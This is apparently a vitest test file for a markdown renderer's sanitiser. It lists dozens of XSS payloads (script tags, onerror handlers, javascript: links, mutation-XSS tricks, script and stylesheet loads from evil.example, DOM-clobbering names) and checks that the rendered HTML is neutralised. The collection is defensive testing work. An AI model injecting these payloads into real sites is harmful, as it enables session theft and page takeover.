import type { Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { describe, expect, it } from 'vitest'
import { activeBodyLanguage } from '../messages/activeBodyLanguage.ts'
import { CARDS } from './cards/cards.ts'
import { renderMarkdown } from './render.ts'

const ACTIVE = /^(?:script|style|iframe|object|embed|math|form|base|meta|link|template)$/
/** Elements that only cards create. */
const OF_CARDS = /^(?:svg|video|audio|track|nav)$/
const SAFE_ADDRESS = /^(?:https?:|mailto:|tel:|#|\/|\.|[^:]*$)/i

/** Everything in a piece of HTML, parsed as a browser would, that could run code. */
function dangersIn(html: string, mayHaveCards = false): string[] {
  const reader = unified().use(rehypeRaw)
  const tree = reader.runSync({ type: 'root', children: [{ type: 'raw', value: html }] }) as Root
  const dangers: string[] = []
  visit(tree, 'element', ({ tagName, properties }) => {
    if (ACTIVE.test(tagName) || (!mayHaveCards && OF_CARDS.test(tagName)))
      dangers.push(`<${tagName}>`)
    for (const [name, value] of Object.entries(properties)) {
      if (/^on/i.test(name) || name === 'style' || name === 'srcDoc') dangers.push(name)
      const isAddress = [
        ...[
          'href',
          'src',
          'cite',
          'action',
          'formAction',
          'data',
          'poster',
          'dataVideo',
          'xLinkHref',
        ],
      ].includes(name)
      if (isAddress && !SAFE_ADDRESS.test(String(value))) dangers.push(`${name}=${value}`)
    }
  })
  return dangers
}

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" oNeRrOr="alert(1)">',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x" src="x">',
  '<img src=`x`onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc&quot;onload=alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x">y</applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x01;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="x" style="position:fixed;inset:0">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y)',
  '![x](y "z\\" onerror=\\"alert(1)")',
  '[x](https://e.example/"onmouseover="alert(1))',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="checkbox" disabled onclick="alert(1)">',
  '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<video src=x onerror=alert(1)></video>',
  '<audio><source src=x onerror=alert(1)></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<table><td background="javascript:alert(1)">x</table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<img src="/storage/v1/object/public/a/x&quot;onerror=alert(1).10x10.webp">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

it.each(payloads)('neutralises %s', (payload) => {
  for (const markdown of [payload, `> - ${payload}`, `<div>\n\n${payload}\n\n</div>`]) {
    expect(
      dangersIn(renderMarkdown(markdown, { mediaOrigin: '', language: activeBodyLanguage() }).html),
    ).toEqual([])
  }
})

/** Texts for every place of a directive: name, label, attribute names and values, content. */
const HOSTILE = [
  '"><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '&quot; onmouseover=&quot;alert(1)',
  '&quot;>&lt;img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '</svg><script>alert(1)</script>',
  '</div></figure><script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x.mp4',
  '__proto__',
]

describe.each(Object.entries(CARDS))('the card %s', (name, { attributes, kind }) => {
  const mark = kind === 'leaf' ? '::' : ':::'
  const wrap = (line: string, content: string) =>
    kind === 'leaf' ? `${mark}${line}\n\n${content}` : `${mark}${line}\n${content}\n:::`
  const fitting =
    '[a](/a.mp3) [b](/b.mp4) [c](/c.vtt) ![d](/d.png)\n\n- e\n\n| f | g |\n| - | - |\n| h | 1 |'

  it.each(HOSTILE)('neutralises %s', (payload) => {
    const quoted = payload.replaceAll('"', '&quot;')
    const texts = [
      wrap(`${name}[${payload.replace(/[[\]]/g, '')}]`, fitting),
      ...[
        ...Object.keys(attributes),
        'class',
        'id',
        'style',
        'onclick',
        'data-card',
        'src',
      ].flatMap((attribute) => [
        wrap(`${name}{${attribute}="${quoted}"}`, fitting),
        wrap(`${name}{${attribute}='${payload.replaceAll("'", '')}'}`, fitting),
        wrap(`${name}{${attribute}=${payload}}`, fitting),
        `<div data-card="0" ${attribute}="${quoted}">\n\n${wrap(name, fitting)}\n\n</div>`,
      ]),
      wrap(name, payload),
      wrap(name, `[a](<${payload}>)\n\n![b](<${payload}> "${quoted}")`),
      wrap(name, `| ${payload} | b |\n| - | - |\n| ${payload} | 1 |`),
      wrap(`${name}${payload}`, fitting),
    ]
    for (const markdown of texts) {
      const { html } = renderMarkdown(markdown, {
        mediaOrigin: '',
        language: activeBodyLanguage(),
      })
      expect(dangersIn(html, true), markdown).toEqual([])
      expect(html).not.toMatch(/(?:src|poster)="(?:https?:)?\/\/evil/)
    }
  })
})

it('does not let HTML imitate a card or a frame', () => {
  for (const markdown of [
    '<div data-card="gallery" data-kind="x" data-video="https://evil.example">a</div>',
    '<div data-card="0" data-page-only data-shape="post">a</div>',
    '<span data-card="0">a</span>',
  ]) {
    const options = { mediaOrigin: '', language: activeBodyLanguage() }
    expect(renderMarkdown(markdown, options).html).not.toContain('data-')
  }
})

it('detects a danger', () => {
  expect(dangersIn('<a href="javascript:x" onclick="y">z</a><script></script>')).toHaveLength(3)
})

it.each(['cookie', 'location', 'getElementById', '__proto__', 'constructor'])(
  'removes the id or name %s, which would shadow a property that scripts read',
  (name) => {
    const { html } = renderMarkdown(`<a id="${name}">x</a> <img name="${name}" src="y">`, {
      mediaOrigin: '',
      language: activeBodyLanguage(),
    })
    expect(html).not.toMatch(new RegExp(`(?:id|name)="${name}"`))
  },
)
